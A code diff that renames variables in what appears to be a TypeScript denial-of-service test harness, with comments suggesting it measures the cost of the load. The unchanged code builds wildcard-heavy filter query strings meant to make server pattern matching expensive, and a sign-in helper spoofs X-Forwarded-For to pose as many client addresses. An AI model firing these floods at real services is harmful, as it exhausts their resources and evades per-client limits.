@@ -21,15 +21,17 @@ const list = '/hybrid-core/v2/hybrid-cores/big/assets'
 /** 430 patterns of ten stars each, in 15.6 kB. */
 const manyPatterns = Array.from({ length: 430 }, (_, n) => `filter[id]=*${'a*'.repeat(10)}${n.toString(16)}b`).join('&')
 
-let asked = 0
+let requestCount = 0
 /** The most expensive allowed filter: 100 values, ten of them patterns of five stars, new ones each time. */
 function mostExpensiveFilter(): string {
-  asked++
-  const values = Array.from({ length: 100 }, (_, n) => (n < 10 ? `*n*o*d*e*${asked}z${n}` : `node-${asked}-${n}`))
+  requestCount++
+  const values = Array.from({ length: 100 }, (_, n) =>
+    n < 10 ? `*n*o*d*e*${requestCount}z${n}` : `node-${requestCount}-${n}`,
+  )
   return values.map((value) => `filter[id]=${value}`).join('&')
 }
 
-/** Sends nothing: what it costs the other partner is the share of the CPU that any asking program takes. */
+/** Sends nothing: it costs the other partner only the share of the CPU that any program takes. */
 export const control = 'control: a busy program'
 
 /** Sends the same flood to a server that only accepts: it shows the cost for the machine, whatever the product does. */
@@ -111,9 +113,9 @@ async function get({ url, headers }: AttackOrder, path: string, accept = 'applic
 
 async function signIn({ url }: AttackOrder, address: string): Promise<number> {
   const forwarded = { 'X-Forwarded-For': address }
-  const asked = await fetch(`${url}/api/auth/csrf`, { headers: forwarded })
-  const { csrfToken } = (await asked.json()) as { csrfToken: string }
-  const Cookie = asked.headers
+  const csrfResponse = await fetch(`${url}/api/auth/csrf`, { headers: forwarded })
+  const { csrfToken } = (await csrfResponse.json()) as { csrfToken: string }
+  const Cookie = csrfResponse.headers
     .getSetCookie()
     .map((cookie) => cookie.split(';')[0])
     .join('; ')
